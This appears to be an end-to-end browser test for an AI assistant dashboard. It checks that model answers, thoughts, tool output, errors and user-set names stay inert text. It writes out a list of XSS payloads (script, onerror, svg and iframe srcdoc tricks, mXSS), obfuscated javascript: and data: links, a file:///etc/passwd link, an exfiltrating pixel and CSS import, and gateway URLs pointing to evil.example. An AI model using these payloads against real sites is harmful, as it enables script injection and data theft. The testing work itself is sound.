// Text that would like to be more than text: in names, answers, tool output, errors, logs. None of it runs, none of it
// becomes markup, none of it reaches another server.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { type TestBrowser, openBrowser, type Visit } from "#test/support/page/browser";
import { answer, converse, say, settled, signIn } from "#test/support/page/chat";
import { chromiumMissing } from "#test/support/page/chromium";
import { say as says, type Script } from "#test/support/model/script";
import { needs } from "#test/support/tools";
import { openStage, type Stage } from "../e2e/stage.ts";

const RUN = "window.__ran=(window.__ran||0)+1";

/** Ways to run a script that browsers have fallen for. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<details open ontoggle="${RUN}">`,
  `<a href="javascript:${RUN}">click</a>`,
  `<style>@import "https://example.com/steal.css";</style>`,
  `"><body onload="${RUN}">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
].join("\n\n");

const LINKS = [
  `[one](javascript:${RUN})`, `[two](JaVaScRiPt:${RUN})`, `[three](java\u0000script:${RUN})`, `[four](\u0001javascript:${RUN})`,
  `[five](data:text/html,<script>${RUN}</script>)`, `[six](vbscript:x)`, `[seven](file:///etc/passwd)`, `<javascript:${RUN}>`,
  `[eight](&#106;avascript:${RUN})`, `[nine](javascript&colon;${RUN})`, `![ten](javascript:${RUN})`, `[eleven](//evil.example/x)`,
  `![pixel](https://example.com/pixel.png?secret=1)`, `[good](https://example.com/fine)`,
].join("\n\n");

const script: Script = ({ last, lastUser }) => {
  if (last?.role === "tool") return says(`Tool said: ${last.text}`);
  if (lastUser.includes("markup")) return [{ kind: "thinking", text: MARKUP }, ...says(MARKUP)];
  if (lastUser.includes("links")) return says(LINKS);
  if (lastUser.includes("tool")) return [{ kind: "tool", name: "exec", args: { command: `printf '%s' '${MARKUP.replaceAll("'", "")}'` } }];
  if (lastUser.includes("fail")) return [{ kind: "status", status: 400, message: MARKUP }];
  return undefined;
};

describe("hostile text in the dashboard", needs(chromiumMissing()), () => {
  let stage: Stage;
  let browser: TestBrowser;
  let visit: Visit;
  const elsewhere: string[] = [];

  before(async () => {
    const config = { agents: { entries: { main: { identity: { name: `<img src=x onerror="${RUN}">Mallory` } } } } };
    [stage, browser] = await Promise.all([openStage({ config }), openBrowser()]);
    stage.model.play(script);
    visit = await browser.visit();
    visit.page.on("request", (request) => {
      const url = new URL(request.url());
      if (!["data:", "blob:"].includes(url.protocol) && url.host !== `127.0.0.1:${stage.gateway.port}`) elsewhere.push(request.url());
    });
    visit.page.on("dialog", (dialog) => void dialog.dismiss());
    await signIn(visit.page, stage.gateway.httpUrl, stage.gateway.token);
    await converse(visit.page, stage.gateway.httpUrl, "hostile");
  });

  after(async () => {
    await browser?.close();
    await stage?.close();
  });

  async function harmless(): Promise<void> {
    const { page, problems } = visit;
    const found = await page.evaluate(() => {
      const made = [...document.querySelectorAll("script, iframe, object, embed, style, link, svg, img, a")];
      const active = [...document.querySelectorAll("*")].filter((element) => [...element.attributes].some(({ name }) => name.startsWith("on")));
      return {
        ran: Reflect.get(globalThis, "__ran") ?? 0,
        active: active.map(({ outerHTML }) => outerHTML.slice(0, 80)),
        inside: made.filter((element) => element.closest(".prose, .bubble, .output, .log-box, .tree"))
          .filter((element) => !element.closest("button, .code-bar, .empty") && !(element instanceof HTMLAnchorElement)).map(({ outerHTML }) => outerHTML.slice(0, 80)),
        hrefs: [...document.querySelectorAll<HTMLAnchorElement>(".prose a")].map(({ href }) => href),
      };
    });
    assert.equal(found.ran, 0, "something ran");
    assert.deepEqual(found.active, [], "an attribute that would run");
    assert.deepEqual(found.inside, [], "text became an element");
    for (const href of found.hrefs) assert.match(href, /^(?:https?|mailto):/, href);
    // A violation of the content policy would mean that something got as far as trying.
    assert.deepEqual(problems, []);
    assert.deepEqual(elsewhere, [], "a request to another server");
  }

  test("an answer and a thought made of markup stay text", async () => {
    const { page } = visit;
    await say(page, "markup please");
    await answer(page).getByText("<iframe srcdoc=").first().waitFor();
    await settled(page);
    await page.locator(".step-head", { hasText: "Thought" }).first().click();
    await harmless();
    await visit.shot("hostile-markup");
  });

  test("links go to web pages or nowhere, and pictures are not fetched", async () => {
    const { page } = visit;
    await say(page, "links please");
    await answer(page).getByText("good").waitFor();
    await settled(page);
    await harmless();
    const linked = await answer(page).locator("a").allInnerTexts();
    assert.deepEqual(linked, ["Picture: pixel", "good"]);
  });

  test("tool output stays text, in the call and in the answer", async () => {
    const { page } = visit;
    await say(page, "tool please");
    await answer(page).getByText("Tool said:").waitFor();
    await settled(page);
    await answer(page).locator(".step-head").click();
    await answer(page).locator(".output pre").waitFor();
    await harmless();
  });

  test("an error of a provider stays text", async () => {
    const { page } = visit;
    await say(page, "fail please");
    await page.getByRole("alert").first().waitFor();
    await settled(page);
    await harmless();
  });

  test("names of assistants, sessions and messages of one's own stay text", async () => {
    const { page } = visit;
    assert.ok((await page.locator(".side-name").innerText()).includes("onerror"));
    await say(page, MARKUP);
    await page.locator(".bubble", { hasText: "mglyph" }).waitFor();
    await settled(page);
    await page.getByRole("button", { name: "More about this conversation" }).click();
    await page.getByRole("menuitem", { name: "Rename" }).click();
    await page.getByLabel("Name of the conversation").fill(`<img src=x onerror="${RUN}">`);
    await page.getByRole("button", { name: "Save" }).click();
    await page.locator(".chat-title", { hasText: "onerror" }).waitFor();
    await harmless();
    assert.ok((await page.title()).includes("onerror"));
  });

  for (const id of ["overview", "sessions", "usage", "logs", "config", "debug"]) {
    test(`${id} shows all of it as text`, async () => {
      const { page } = visit;
      await page.goto(`${stage.gateway.httpUrl}/${id}?find=${encodeURIComponent("<img src=x onerror=1>")}`);
      await page.getByRole("heading", { level: 1 }).waitFor();
      await page.waitForTimeout(300);
      await harmless();
    });
  }

  test("an address that names another gateway is not listened to", async () => {
    const { page } = visit;
    const sockets: string[] = [];
    page.on("websocket", (socket) => sockets.push(socket.url()));
    await page.goto(`${stage.gateway.httpUrl}/chat?gatewayUrl=ws://evil.example:1&token=x#gatewayUrl=ws://evil.example:1&url=ws://evil.example`);
    await page.locator("#composer").waitFor();
    assert.ok(sockets.length > 0 && sockets.every((url) => new URL(url).host === `127.0.0.1:${stage.gateway.port}`), sockets.join(", "));
    await harmless();
  });
});
